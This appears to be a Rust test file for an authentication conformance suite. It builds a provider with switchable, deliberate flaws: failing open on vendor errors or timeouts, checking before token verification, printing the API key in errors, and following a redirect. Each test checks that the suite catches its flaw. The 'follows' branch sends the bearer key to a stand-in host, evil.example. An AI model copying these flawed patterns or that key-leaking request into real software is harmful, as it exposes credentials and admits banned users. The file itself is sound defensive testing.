//! The cases about a vendor's own interface: an honest provider passes each of them, and a flawed
//! one fails those that are about its flaw, and no other.

#![expect(clippy::unwrap_used, reason = "a test says what it expects by failing")]

use std::sync::Arc;
use std::time::Duration;

use auth_conformance::idp::{Asking, Endpoint, Reply, Vendor};
use auth_conformance::report::{Report, to_table};
use auth_conformance::subject::Registered;
use auth_conformance::suite::{self, Selection};
use auth_conformance::verdict::Verdict;
use auth_core::http::HttpRequest;
use auth_core::jwt::VerifierBuilder;
use auth_core::upstream::{Memo, MemoOptions, Upstream, UpstreamError};
use auth_core::{
    AuthError, AuthProvider, Authenticate, Claims, Environment, Principal, Request, Secret, Token,
    Verifier,
};
use serde_json::{Value, json};

const KEY: &str = "sk_test_c0ffee4711c0ffee4711";

/// A vendor that is asked for each user, by a provider with this flaw.
const fn vendor(variables: &'static [(&'static str, &'static str)]) -> Vendor {
    Vendor { provider: "asking", variables, endpoints: ENDPOINTS, ..Vendor::PLAIN }
}

const ENDPOINTS: &[Endpoint] = &[Endpoint {
    name: "user",
    host: "api.asking.example",
    method: "GET",
    path: "/v1/users/{}",
    is_asked: true,
    answer: user,
}];

fn user(asking: &Asking<'_>) -> Reply {
    if asking.bearer() != Some(KEY) {
        return Reply::json(401, &json!({"error": "unknown key"}));
    }
    Reply::json(200, &json!({"id": asking.captured(0), "banned": false}))
}

/// Asks for each user, honestly unless it has a flaw.
#[derive(AuthProvider)]
#[auth(name = "asking", register = false)]
struct Asks {
    #[auth(env = "ASKING_KEY")]
    key: Secret<String>,
    #[auth(env = "ASKING_FLAW", default = "none".to_owned())]
    flaw: String,
    #[auth(init = Arc::new(environment.clone()))]
    world: Arc<Environment>,
    #[auth(init = interface(key, environment)?)]
    upstream: Upstream,
    #[auth(init = Memo::new(OPTIONS, environment))]
    users: Memo<String, bool>,
    #[auth(init = verifier().build_in(environment)?)]
    verifier: Verifier,
}

const OPTIONS: MemoOptions = MemoOptions { lifetime: Duration::from_secs(20), capacity: 100 };

fn verifier() -> VerifierBuilder {
    Verifier::remote("https://login.asking.example/keys").issuer("me").audience("us")
}

fn interface(
    key: &Secret<String>,
    environment: &Environment,
) -> Result<Upstream, auth_core::upstream::UpstreamSetupError> {
    Upstream::at("https://api.asking.example/v1", environment)?.bearer(key)
}

/// Whether the vendor has banned a user.
async fn is_banned(upstream: Upstream, id: String, is_lax: bool) -> Result<bool, UpstreamError> {
    let user: Value = upstream.get(&["users", &id]).json().await?;
    let banned = user["banned"].as_bool();
    banned.or(is_lax.then_some(false)).ok_or(UpstreamError::Malformed("banned or not?"))
}

impl Authenticate for Asks {
    type User = Claims;

    async fn authenticate(&self, token: &Token<'_>, _: &Request<'_>) -> Result<Claims, AuthError> {
        if self.has("asks before it verifies") {
            // Every good token of the vendor's is this user's.
            self.asked("user-1").await?;
        }
        let claims = self.verifier.verify(token).await?;
        let outcome = self.asked(claims.subject()).await;
        if self.flawed(outcome).await? { Err(AuthError::TokenInactive) } else { Ok(claims) }
    }

    fn verifier(&self) -> Option<&Verifier> {
        Some(&self.verifier)
    }
}

impl Asks {
    fn has(&self, flaw: &str) -> bool {
        self.flaw == flaw
    }

    async fn asked(&self, id: &str) -> Result<bool, UpstreamError> {
        let upstream = if self.has("forgets that it was told to wait") {
            interface(&self.key, &self.world).unwrap()
        } else {
            self.upstream.clone()
        };
        let is_lax = self.has("believes anything");
        if self.has("asks for each caller") {
            return is_banned(upstream, id.to_owned(), is_lax).await;
        }
        self.users.get(id.to_owned(), || is_banned(upstream, id.to_owned(), is_lax)).await
    }

    /// What its flaw makes of an answer, or of none.
    async fn flawed(&self, outcome: Result<bool, UpstreamError>) -> Result<bool, AuthError> {
        let Err(error) = outcome else { return outcome.map_err(AuthError::from) };
        let text = error.to_string();
        match self.flaw.as_str() {
            "allows on 500" if text == "it answered 500" => Ok(false),
            "allows on timeout" if text == "there was no answer in time" => Ok(false),
            "blames the caller" => Err(AuthError::TokenInactive),
            "follows" if text == "the answer redirects elsewhere" => {
                let url = "https://evil.example/v1/ok".parse().unwrap();
                let mut request = HttpRequest::get(url);
                let key = format!("Bearer {}", self.key.expose());
                request.headers.insert("authorization", key.parse().unwrap());
                let _ = self.world.http().send(request).await;
                Err(error.into())
            }
            "prints the key" => {
                let text = format!("{text} to {}", self.key.expose());
                Err(AuthError::UpstreamUnavailable(text.into()))
            }
            _ => Err(error.into()),
        }
    }
}

async fn report(vendor: Vendor) -> Report {
    let selection = Selection::parse(&[], &["up".to_owned()], &[]).unwrap();
    suite::run(&[Registered::of::<Asks>().played_by(vendor)], &selection).await
}

/// The provider with this flaw fails exactly these cases.
async fn must_fail(vendor: Vendor, expected: &[&str]) {
    let report = report(vendor).await;
    let cases = &report.subjects[0].cases;
    let of = |verdict: Verdict| -> Vec<&str> {
        cases.iter().filter(|case| case.verdict == verdict).map(|case| case.case.id).collect()
    };
    assert_eq!(of(Verdict::Error), [""; 0], "{}", to_table(&report));
    assert_eq!(of(Verdict::Fail), expected, "{}", to_table(&report));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_honest_provider_passes_every_case() {
    let report = report(vendor(&[("ASKING_KEY", KEY)])).await;
    let passed = report.totals.count(Verdict::Pass);
    assert_eq!(passed, report.subjects[0].cases.len(), "{}", to_table(&report));
    assert!(passed >= 16, "{passed} cases");
}

macro_rules! flaws {
    ($($test:ident: $flaw:literal fails $cases:expr;)*) => {$(
        #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
        async fn $test() {
            must_fail(vendor(&[("ASKING_KEY", KEY), ("ASKING_FLAW", $flaw)]), &$cases).await;
        }
    )*};
}

flaws! {
    an_allow_for_a_vendor_that_fails_is_found_out: "allows on 500"
        fails ["up-500", "up-recovery", "up-credential-scope", "up-nothing-quoted"];
    an_allow_for_a_vendor_that_hangs_is_found_out: "allows on timeout" fails ["up-hang"];
    a_caller_who_is_blamed_for_an_outage_is_found_out: "blames the caller" fails [
        "up-500", "up-503", "up-cut", "up-html", "up-json-half", "up-json-shape", "up-too-large",
        "up-redirect", "up-key-refused", "up-recovery", "up-rate-limited", "up-rate-limited-date",
        "up-closed-until", "up-hang"
    ];
    a_question_for_a_forged_token_is_found_out: "asks before it verifies"
        fails ["up-hang", "up-forged-asks-nothing"];
    a_redirect_that_is_followed_is_found_out: "follows"
        fails ["up-redirect", "up-credential-scope"];
    a_question_during_the_wait_is_found_out: "forgets that it was told to wait"
        fails ["up-rate-limited", "up-rate-limited-date", "up-closed-until"];
    a_key_in_an_error_is_found_out: "prints the key" fails ["up-credential-scope"];
    a_question_for_each_caller_is_found_out: "asks for each caller" fails ["up-singleflight"];
    an_answer_of_another_shape_that_is_believed_is_found_out: "believes anything"
        fails ["up-json-shape"];
}
